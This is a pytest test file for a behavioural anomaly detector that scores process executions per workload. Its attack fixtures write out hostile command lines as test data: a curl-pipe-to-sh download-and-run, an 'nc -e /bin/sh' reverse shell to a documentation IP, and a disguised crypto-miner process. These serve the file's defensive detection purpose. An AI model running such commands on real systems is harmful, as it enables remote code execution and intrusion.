"""The analyser as a detector: quiet about what is usual, loud about what is not, and the same however its events are cut into batches."""

from __future__ import annotations

import json
import re
from typing import Any

import numpy as np
import pytest

from daemoneye.errors import ConfigError
from daemoneye_analytics.behaviour import models, telling
from daemoneye_analytics.behaviour.catalogue import PROCESS_FEATURES, Part
from daemoneye_analytics.behaviour.clock import SILENT, Clock
from daemoneye_analytics.behaviour.executions import FLEET
from daemoneye_analytics.behaviour.features import EXE, Measured
from daemoneye_analytics.behaviour.scorers import Scorers
from daemoneye_analytics.checkpoint import Checkpoint, decode, encode
from daemoneye_analytics.exemptions import Exemption
from daemoneye_analytics.frame import Frame, text_hash
from tests.unit.analytics.behaviour.traffic import WORKLOADS, analyser, execution, frames, run, usual
from tests.unit.analytics.factory import OFFSET, Exec, batch

HOURS = 16
DAY_NS = 86_400 * 1_000_000_000
VICTIM = "shop/Deployment/app-2/main"


@pytest.fixture(scope="module")
def history():
    return usual(HOURS)


@pytest.fixture(scope="module")
def learned(history):
    """The state of an analyser that has seen the history, and what it said meanwhile."""
    detector = analyser()
    findings, scores = run(detector, history)
    return detector.state(), findings, scores


def again(learned, **parameters: Any):
    detector = analyser(**parameters)
    detector.restore(learned[0])
    return detector


def attack(at: float = HOURS * 3600 + 300) -> list:
    """A shell below the web server that fetches and runs something."""
    names = ((b"/bin/sh", b"sh", b"-c", b"curl -s http://198.51.100.9/x | sh"), (b"/usr/bin/nc", b"nc", b"-e", b"/bin/sh", b"198.51.100.9", b"4444"),
             (b"/tmp/.x/kworker", b"kworker", b"--pool", b"stratum"), (b"/usr/bin/whoami", b"whoami"))  # fmt: skip
    return [execution(12, at + k, exe, argv, 900_000 + k) for k, (exe, *argv) in enumerate(names)]


def later(*extra, hours: float = 0.5) -> list:
    return sorted([*usual(hours, seed=2, start=HOURS * 3600 + 60), *extra], key=lambda row: row.time)


def test_what_is_usual_raises_nothing_and_its_scores_are_low(learned):
    _, findings, scores = learned
    assert findings == []
    last = [s for s in scores if s["state"] == "Active"]
    assert len(last) > 200
    assert {s["workload"] for s in last} == {name.decode() for name in WORKLOADS.values()}
    assert sum(s["p"] <= 0.1 for s in last) < 0.25 * len(last)
    assert max(s["score"] for s in last) < 0.8


def test_before_enough_windows_were_seen_nothing_is_guessed(learned):
    _, _, scores = learned
    first = scores[0]
    assert (first["score"], first["p"], first["state"]) == (None, None, "Learning")
    states = list(dict.fromkeys(s["state"] for s in scores if s["workload"] == VICTIM))
    assert states[0] == "Learning"
    assert states[-1] == "Active"


def test_an_attack_is_told_with_its_process_its_bits_and_its_counts(learned):
    detector = again(learned)
    rows = later(*attack())
    findings, _ = run(detector, rows, first=100_000)
    (finding,) = findings
    assert finding.detector == "behavioral_anomaly"
    assert finding.subject.workload == VICTIM
    assert finding.subject.exe in {"/bin/sh", "/usr/bin/nc", "/tmp/.x/kworker", "/usr/bin/whoami"}
    assert finding.score >= 0.8
    text = " ".join(finding.explanation)
    assert "p = " in text
    assert "/usr/bin/nc never ran in this workload in" in text or "/bin/sh never ran in this workload in" in text
    assert "bits)" in text
    assert finding.process_tree[0].exe == "/usr/sbin/nginx"
    assert "T1059.004" in {technique.id for technique in finding.techniques}
    assert "What intruders do and this workload seldom does: " in text
    assert "nc -e (T1059.004 Unix Shell, 6.5 bits)" in text
    assert {event.event for event in finding.events} == {"process_exec"}


def test_a_model_of_processes_says_which_it_means_what_is_odd_about_it_and_which_training_said_so(history):
    detector = analyser(models=('{"name": "process_shape"}', '{"name": "sequence"}'), threshold=0.4)
    run(detector, history)
    at = HOURS * 3600 + 300.0
    chain = [
        execution(14, at, b"/usr/bin/find", (b"find",), 900_001),
        execution(14, at + 1, b"/usr/bin/sort", (b"sort",), 900_002, ppid=900_001, pstart=at),
    ]
    (finding,), _ = run(detector, later(*chain), first=100_000)
    assert finding.key == "process_shape:shop/Deployment/app-4/main:/usr/bin/sort"
    assert finding.subject.pid == 900_002
    text = " ".join(finding.explanation)
    assert "by model: process_shape (model 1) " in text
    assert "What process_shape finds odd about /usr/bin/sort: " in text
    assert re.search(r"pair_bits \d\d\.\d bits \(usually 0\.\d+ bits\)", text)


def test_a_model_that_is_not_trained_says_what_it_adds_up():
    features = np.zeros((2, len(PROCESS_FEATURES)))
    features[1, PROCESS_FEATURES.index("tree_bits")] = 14.25
    measured = Measured(features, np.zeros((2, 3), np.uint64), np.zeros((2, 1)))
    scorers = Scorers([models.SEQUENCE], 86_400, {})
    assert scorers.explain("sequence", measured, 1) == [Part("tree_bits", 14.25, 14.25, None)]
    assert scorers.explain("sequence", measured, 0) == []
    assert scorers.explain("process_rarity", measured, 1) == []
    assert scorers.numbers == {}


@pytest.mark.parametrize(
    ("part", "said"),
    [
        (Part("tree_bits", 14.25, 14.25, None), "tree_bits 14.2 bits"),
        (
            Part("sent_bytes", 1.0, np.log2(1 + 2_000_000), np.log2(1 + 300)),
            "sent_bytes 2,000,000 bytes (usually 300 bytes)",
        ),
        (Part("new_items", 1.0, 2.0, 0.0), "new_items 2 (usually 0)"),
        (Part("args_entropy", 1.0, 4.91, 3.3), "args_entropy 4.91 bits/character (usually 3.3 bits/character)"),
    ],
)
def test_features_are_told_in_their_units(part, said):
    assert telling.told(part) == said


def test_borders_of_batches_change_neither_scores_nor_findings(learned):
    rows = later(*attack(), hours=1.0)
    told = []
    for size in (1, 7, 64, len(rows)):
        findings, scores = run(again(learned), rows, size, first=100_000)
        told.append(([f.id for f in findings], json.dumps(scores)))
    assert all(one == told[0] for one in told[1:])
    assert told[0][0]


def test_a_checkpoint_goes_on_as_if_nothing_had_happened(learned):
    rows = later(*attack(), hours=1.0)
    whole, scores = run(again(learned), rows, 50, first=100_000)
    detector, parts = again(learned), []
    said: list[dict[str, Any]] = []
    for frame in frames(rows, 50, first=100_000):
        parts += detector.process(frame)
        said += detector.scores
        saved = decode(encode(Checkpoint(1, 1, {}, {"behavioral_anomaly": detector.state()}))).detectors[
            "behavioral_anomaly"
        ]
        detector = analyser()
        detector.restore(dict(saved))
    assert [f.id for f in parts] == [f.id for f in whole]
    assert said == scores


def test_what_alarmed_is_not_learned_and_is_told_once_an_hour(learned):
    detector = again(learned)
    rows = later(*attack(), *attack(HOURS * 3600 + 1500), *attack(HOURS * 3600 + 6000), hours=2.0)
    findings, _ = run(detector, rows, first=100_000)
    assert len(findings) == 2, "the second attack repeats the first within the hour; the third does not"
    assert detector.status()["suppressed"] == len(detector.repeated) >= 1
    assert detector.repeated[0].key == findings[0].key
    assert findings[0].time < detector.repeated[0].time < findings[1].time


def test_what_others_found_is_not_learned(learned):
    quiet = again(learned, threshold=1.0)
    rows = later(*attack())
    for frame in frames(rows, first=100_000):
        processes = frame.exec_rows["process_uid"][frame.exec_rows["pid"] >= 900_000].tolist()
        frame.flagged += processes
        quiet.process(frame)
    run(quiet, later(hours=0.1), first=200_000)
    known = quiet._counts.seen
    assert known(FLEET, EXE.number, 0, text_hash("/usr/bin/nc"))[0] == 0
    assert known(FLEET, EXE.number, 0, text_hash("/usr/bin/date"))[0] > 100


def test_attacks_that_nobody_noticed_do_not_make_the_next_one_usual(history):
    """A young analyser's threshold is out of reach; what its signs say of a window is no example for others all the same."""
    detector = analyser(threshold=1.0)
    attacks = [
        execution(cgroup, (6 + hour) * 3600 + 97 + more, exe, argv, 800_000 + 10 * hour + more)
        for hour, cgroup in ((3, 13), (4, 14), (5, 15), (6, 16), (7, 17))
        for more, (exe, *argv) in enumerate((
            (b"/bin/sh", b"sh", b"-c", b"curl -s http://198.51.100.%d/x | sh" % hour),
            (b"/usr/bin/nc", b"nc", b"-e", b"/bin/sh", b"198.51.100.%d" % hour, b"4444"),
        ))
    ]  # fmt: skip
    findings, scores = run(detector, sorted([*history, *attacks], key=lambda row: row.time))
    assert not findings
    p = [s["p"] for s in scores if s["p"] is not None and s["p"] < 0.02]
    assert len(p) == 5
    assert p == sorted(p, reverse=True), (
        "each is the less usual the more usual windows there are, and not the more attacks there were"
    )


def test_what_is_found_out_late_is_taken_back(learned):
    """A process tree that somebody finds something in after its window was closed and kept: the window is no example any more, and is not learned."""
    detector = again(learned)
    tool = [
        execution(12, HOURS * 3600 + 200 + 5 * k, b"/usr/bin/date", (b"date", b"--level", b"1"), 930_000)
        for k in range(3)
    ]
    run(detector, later(*tool, hours=1.0), first=100_000)
    before = detector.status()["references"]["rarest"]["windows"], detector.details()["references"]["rarest"]["waiting"]
    (frame,) = frames([execution(11, (HOURS + 1) * 3600 + 90, b"/usr/bin/date", (b"date",), 940_000)], first=200_000)
    rows = next(frames(tool, first=100_000)).exec_rows
    frame.flagged += rows["process_uid"].tolist()
    detector.process(frame)
    after = detector.status()["references"]["rarest"]["windows"], detector.details()["references"]["rarest"]["waiting"]
    assert sum(after) == sum(before) - 1
    state = detector.state()
    fresh = analyser()
    fresh.restore(state)
    assert fresh.status()["references"] == detector.status()["references"]


def test_a_workload_that_drifts_has_the_models_trained_at_once(learned):
    models = ('{"name": "process_rarity"}', '{"name": "process_shape", "detector": "IForest"}')
    detector = again(learned, models=models, update_seconds=30 * 86_400)
    # In one workload something else each ten minutes, for two hours.
    begin = HOURS * 3600 + 3000
    odd = [
        execution(12, begin + 120 * k, b"/opt/release-%d/bin/run" % (k // 5), (b"run",), 950_000 + k) for k in range(45)
    ]
    rows = sorted([*usual(2.4, seed=2, every=30.0, start=HOURS * 3600 + 60), *odd], key=lambda row: row.time)
    begun = sum(row.time < begin for row in rows)
    run(detector, rows[:begun], first=100_000)
    assert detector.status()["models"]["process_shape"]["model"] == 1
    run(detector, rows[begun:], first=100_000 + begun)
    assert detector.status()["models"]["process_shape"]["model"] > 1, "the interval is a month"


def test_a_score_does_not_depend_on_its_batch(learned):
    """One window's features alone and beside those of the other workloads."""
    rows = later(hours=0.4)
    alone = [row for row in rows if row.cgroup == 12]
    together = {s["start"]: s for s in run(again(learned), rows, first=100_000)[1] if s["workload"] == VICTIM}
    single = {s["start"]: s for s in run(again(learned), alone, first=100_000)[1]}
    assert together
    start = min(together)  # later windows may have learned from the others
    assert single[start] == together[start]


def test_floods_constants_and_clock_jumps_are_survived(learned):
    detector = again(learned)
    flood = [
        execution(11, HOURS * 3600 + 60 + k * 1e-4, b"/usr/bin/date", (b"date",), 500_000 + k) for k in range(5000)
    ]
    back = [execution(11, 5.0 + k, b"/usr/bin/date", (b"date",), 600_000 + k) for k in range(10)]
    ahead = [execution(11, 1e8 + k, b"/usr/bin/date", (b"date",), 700_000 + k) for k in range(10)]
    lost = [execution(11, 1e8 + 900 + k, b"", (), 800_000 + k) for k in range(10)]
    _, scores = run(detector, [*flood, *back, *ahead, *lost], 1000, first=100_000)
    assert {s["executions"] for s in scores} >= {100}
    assert all(s["p"] is None or 0 < s["p"] <= 1 for s in scores)
    assert np.isfinite([s["score"] for s in scores if s["score"] is not None]).all()


def test_a_clock_that_was_a_year_ahead_and_is_put_back_costs_nothing(learned):
    """Windows end as ever, and what was told in the future is told again."""
    rows = later(*attack(), *attack(HOURS * 3600 + 6000), hours=2.0)
    (told, _), scores = run(again(learned), rows, first=200_000)
    detector = again(learned)
    ahead = {"clock_offset_ns": OFFSET + 365 * DAY_NS}
    wrong, _ = run(detector, [execution(11, HOURS * 3600 + 1, b"/usr/bin/date"), *attack()], first=100_000, **ahead)
    findings, after = run(detector, rows, first=200_000)
    assert {f.key for f in wrong} == {told.key}
    assert told.key in {f.key for f in findings}
    assert len([s for s in after if s["start"] < "2024"]) == len(scores)


def test_of_nodes_whose_clocks_differ_by_a_year_one_says_when_models_are_trained():
    detector = analyser(models=('{"name": "process_rarity"}', '{"name": "process_shape"}'))
    here = frames(usual(2.0, every=20.0), 100)
    there = frames(usual(2.0, seed=2, every=20.0), 100, node="ahead", clock_offset_ns=OFFSET + 365 * DAY_NS)
    for pair in zip(here, there, strict=False):
        for frame in pair:
            detector.process(frame)
    assert detector.status()["models"]["process_shape"]["kept"] == [1], "a day has not gone by on either"


def test_when_the_node_whose_clock_counts_falls_silent_another_takes_over():
    clock = Clock()
    assert clock.turn("one", 5, 2)
    assert not any(clock.turn("two", 100 + n, 2) for n in range(2 * SILENT))
    assert clock.now == 5
    kept = Clock()
    kept.restore(clock.state())
    assert kept.turn("two", 1000, 2)
    assert kept.now == 1000
    assert not kept.turn("one", 6, 2)
    with pytest.raises(ValueError, match="clock"):
        kept.restore({"now": "noon"})


def test_a_million_workloads_of_jobs_are_bounded():
    detector = analyser(max_workloads=50, max_items=1000)
    for number in range(20):
        cgroups = {1000 * number + k: b"ci/Job/build-%d-%d/main" % (number, k) for k in range(1, 100)}
        rows = [
            Exec(exe=b"/usr/bin/make-%d" % k, pid=k, start=60.0 * number + 1, time=60.0 * number + 1, cgroup=k)
            for k in cgroups
        ]
        detector.process(Frame(batch(rows, first=number * 1000, workloads=cgroups)))
    status = detector.status()
    assert status["workloads"] <= 50
    assert status["items"] <= 1000
    assert status["dropped"] > 0


def test_a_policy_that_changes_the_models_keeps_what_was_learned(learned):
    detector = again(learned, models=('{"name": "process_rarity"}', '{"name": "sequence"}'))
    findings, scores = run(detector, later(*attack()), first=100_000)
    assert [f.subject.workload for f in findings] == [VICTIM], "what was counted and calibrated goes on"
    assert set(scores[-1]["models"]) == {"process_rarity", "sequence"}


@pytest.mark.parametrize(
    ("given", "message"),
    [
        ({"name": "x"}, "names no features"),
        ({"name": "x", "features": ["rarest", "exe_bits"]}, "mixes features"),
        ({"name": "x", "features": ["rarest"], "detector": "HBOS"}, "detectors are for features of processes"),
        ({"name": "x", "features": ["exe_bits", "exe_bits"]}, "twice"),
        ({"name": "x", "features": ["exe_bits"], "parameters": {"a": 1}}, "no detector"),
        ({"name": "x", "features": ["exe_bits"], "detector": "ECOD"}, "HBOS, IForest"),
        ({"features": ["exe_bits"]}, "no name"),
    ],
)
def test_models_that_cannot_be_are_refused_with_the_choices(given, message):
    with pytest.raises(ConfigError, match=message):
        models.parse([given])


@pytest.mark.parametrize(
    ("given", "message"),
    [
        ("sequence=1", "'sequence=1': write NAME=NUMBER with a trained model's name; there are process_shape"),
        ("process_shape", "NAME=NUMBER"),
        ("process_shape=0", "'0' is no number of a training"),
        ("process_shape=new", "'new' is no number of a training"),
    ],
)
def test_a_model_that_cannot_be_held_is_refused_with_the_choices(given, message):
    declared = ('{"name": "process_shape"}', '{"name": "sequence"}')
    with pytest.raises(ConfigError, match=re.escape(message)):
        analyser(models=declared, held_models=(given,))


def test_a_policy_that_holds_a_model_goes_back_to_it():
    """Without losing what was counted, and whoever takes it back trains on."""
    declared = ('{"name": "process_rarity"}', '{"name": "process_shape"}')
    detector = analyser(models=declared, update_seconds=1800)
    rows = usual(2.0, every=20.0)
    run(detector, rows)
    newest = detector.status()["models"]["process_shape"]
    assert newest["model"] >= 3
    earlier = newest["kept"][1]
    held = analyser(models=declared, update_seconds=1800, held_models=(f"process_shape={earlier}",))
    held.restore(detector.state())
    run(held, usual(1.0, seed=3, every=20.0, start=2.0 * 3600 + 60), first=100_000)
    assert held.status()["models"]["process_shape"]["model"] == earlier
    assert held.status()["items"] >= detector.status()["items"]


def test_a_state_of_another_form_is_refused():
    with pytest.raises(ValueError, match="format"):
        analyser().restore({"format": 99})


def benign(**more: Any) -> Exemption:
    its: dict[str, Any] = {
        "namespace": "",
        "detector": "behavioral_anomaly",
        "workload": VICTIM,
        "image": "",
        "key": "",
        "expires": 2e9,
    }
    return Exemption(**(its | more))


@pytest.mark.parametrize(
    ("verdict", "learned_it"),
    [(benign(), True), (benign(workload="shop/*/app-2/*"), True), (benign(expires=1.0), False), (benign(workload="shop/*/app-3/*"), False),
     (benign(detector="beacon"), False), (benign(namespace="shop"), False), (benign(key="another"), False)],
    ids=["its", "pattern", "expired", "another workload", "another detector", "another namespace", "another key"],
)  # fmt: skip
def test_what_somebody_called_benign_is_learned_although_it_alarms(learned, verdict, learned_it):
    detector = again(learned)
    detector.forgive([verdict])
    findings, _ = run(detector, later(*attack(), hours=0.3), first=100_000)
    assert len(findings) == 1, "it is found all the same: the operator keeps it silent"
    weight, _ = detector._counts.seen(FLEET, EXE.number, 0, text_hash("/usr/bin/nc"))
    assert (weight > 0) == learned_it
